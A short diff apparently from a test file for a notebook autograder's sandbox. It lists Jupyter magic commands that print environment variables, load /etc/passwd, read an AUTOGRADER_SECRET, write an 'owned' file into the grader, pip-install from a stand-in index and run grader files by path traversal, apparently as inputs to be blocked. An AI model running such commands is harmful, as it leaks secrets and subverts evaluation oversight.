@@ -23,7 +23,7 @@ _MAGICS = {
     "magic_script": "%%script python\nimport os; print(os.environ)",
     "magic_writefile": "%%writefile ../../autograder/owned.py\nprint('owned')",
     "magic_load": "%load /etc/passwd",
-    "magic_run": "%run ../../autograder/suites/vae/test_bernoulli_nll.py",
+    "magic_run": "%run ../../autograder/suites/vae/bernoulli_nll/checks.py",
     "magic_env": "%env AUTOGRADER_SECRET",
     "magic_pip": "%pip install --index-url https://example.invalid/simple torch",
     "magic_prun": "%%capture out\n%%timeit\n%%prun\nimport torch",
